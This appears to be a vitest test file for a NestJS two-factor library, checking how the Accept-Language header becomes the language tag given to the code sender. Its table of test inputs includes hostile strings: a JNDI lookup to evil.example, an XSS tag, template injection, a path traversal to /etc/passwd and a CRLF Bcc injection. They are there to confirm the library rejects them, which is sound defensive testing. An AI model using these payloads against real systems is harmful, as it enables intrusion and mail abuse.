import type { ExecutionContext } from '@nestjs/common';
import { afterEach, describe, expect, it } from 'vitest';

import type { ControllerOptions } from '../../lib/index.js';
import { enrolApp, METHODS } from '../support/authenticator.js';
import { FACTORS } from '../support/factor-routes.js';
import { adapters, startHttpApp, type Answer, type HttpTestApp } from '../support/http.js';
import { header } from './controller-fixtures.js';

/** Headers of browsers and of attackers, and the language that the sender receives. */
const HEADERS: readonly (readonly [header: string, language: string | undefined])[] = [
  ['de', 'de'],
  ['de-CH', 'de-CH'],
  ['de-ch', 'de-CH'],
  ['zh-hant-tw', 'zh-Hant-TW'],
  ['de-CH, de;q=0.9, en;q=0.8, *;q=0.5', 'de-CH'],
  ['en;q=0.8, de;q=0.9, fr;q=0.7', 'de'],
  ['fr;q=0.5,uk;q=0.5', 'fr'],
  ['en;q=0, de;q=0.001', 'de'],
  ['en ; q=0.3 ,\tda', 'da'],
  ['iw', 'he'],
  ['sr-Latn-RS-u-nu-latn', 'sr-Latn-RS'],
  ['de-x-secret', 'de'],
  ['*', undefined],
  ['*, en;q=0.1', 'en'],
  ['', undefined],
  ['en;q=0', undefined],
  ['en;q=2', undefined],
  ['en;q=1.5, fr;x=1, de;q=0.1', 'de'],
  ['x-private', undefined],
  ['i, a, 12-34', undefined],
  ['de_CH', undefined],
  ['constructor', undefined],
  ['__proto__, en', 'en'],
  ['<script>alert(1)</script>, en', 'en'],
  ['${jndi:ldap://evil.example/a}', undefined],
  ['{{7*7}}', undefined],
  ['../../etc/passwd', undefined],
  ['en%0d%0aBcc: eve@evil.example', undefined],
  [`de-${'abcdefgh-'.repeat(6)}x`, undefined],
  [`${'aa-'.repeat(3_000)}aa`, undefined],
  [`${'x'.repeat(5_000)}, en`, undefined],
  [`en, ${'de;q=0.9, '.repeat(1_000)}`, 'en'],
];

let app: HttpTestApp;
afterEach(() => app?.close());

describe.each(adapters)('The language of a request over $name', ({ create }) => {
  const start = async (controller: ControllerOptions | true = true): Promise<void> => {
    // One person asks more often here than the default limits allow.
    app = await startHttpApp({ adapter: create(), options: { controller, limits: false } });
  };
  const ask = (headers: Record<string, string>): Promise<Answer> =>
    app.post('/2factor/request-confirmation', { token: 'ann@example.com' }, headers);
  const delivered = (): unknown => app.inbox.deliveries.at(-1)?.context;

  it('reaches the sender as one valid tag, whatever the header holds', async () => {
    await start();
    for (const [value, language] of HEADERS) {
      expect((await ask({ 'accept-language': value })).status).toBe(200);
      expect(delivered(), value.slice(0, 60)).toEqual(language === undefined ? {} : { language });
    }
  });

  it('stays that of the request when the code is sent again', async () => {
    await start();
    const { id } = (await ask({ 'accept-language': 'uk' })).body as { id: string };
    app.clock.advance(31);
    await app.post('/2factor/resend', { id }, { 'accept-language': 'en' });
    expect(app.inbox.deliveries).toHaveLength(2);
    expect(delivered()).toEqual({ language: 'uk' });
  });

  it('is that of the call that has the first code sent when the confirmation began by an app', async () => {
    app = await startHttpApp({
      adapter: create(),
      options: {
        controller: true,
        methods: METHODS,
        purposes: { pay: { ...FACTORS, methods: ['totp', 'code'] } },
      },
    });
    const { subject } = await enrolApp(app, 'ann');
    const post = (route: string, body: object, language: string): Promise<Answer> =>
      app.post(`/2factor/${route}`, body, { 'x-user': subject, 'accept-language': language });
    const asked = await post('request-confirmation', { purpose: 'pay' }, 'uk');
    expect(asked.body).toMatchObject({ method: 'totp' });
    const { id } = asked.body as { id: string };
    expect((await post('resend', { id }, 'fr')).status).toBe(200);
    expect(delivered()).toEqual({ language: 'fr' });
  });

  it('does not make another request of a repeat with the same key', async () => {
    await start();
    const key = { 'idempotency-key': 'one-key-for-both-0001' };
    const first = await ask({ ...key, 'accept-language': 'uk' });
    expect((await ask({ ...key, 'accept-language': 'en' })).body).toEqual(first.body);
    expect(app.inbox.deliveries).toHaveLength(1);
  });

  it('is that of a function of the request, and none for a text that is no tag', async () => {
    await start({ language: (context: ExecutionContext) => header(context, 'x-language') });
    for (const [value, expected] of [
      ['pt-br', { language: 'pt-BR' }],
      ['<b>de</b>', {}],
      ['a'.repeat(100), {}],
      [undefined, {}],
    ] as const) {
      const headers = value === undefined ? {} : { 'x-language': value };
      expect((await ask({ ...headers, 'accept-language': 'fr' })).status).toBe(200);
      expect(delivered()).toEqual(expected);
    }
  });

  it('is the application’s fault when its function returns something else', async () => {
    await start({ language: () => 7 as unknown as string });
    expect(await ask({})).toBeProblem(500, 'invalid-configuration');
    expect(app.inbox.deliveries).toHaveLength(0);
  });

  it.each(['de', true, {}])('is refused at boot when it is %j', async (language) => {
    await expect(start({ language: language as never })).rejects.toThrow(
      /^The option language of the controller is .*\. Give a function of the request, or false for none\.$/,
    );
  });

  it('is not read when the application switches it off', async () => {
    await start({ language: false });
    await ask({ 'accept-language': 'de' });
    expect(delivered()).toEqual({});
  });
});
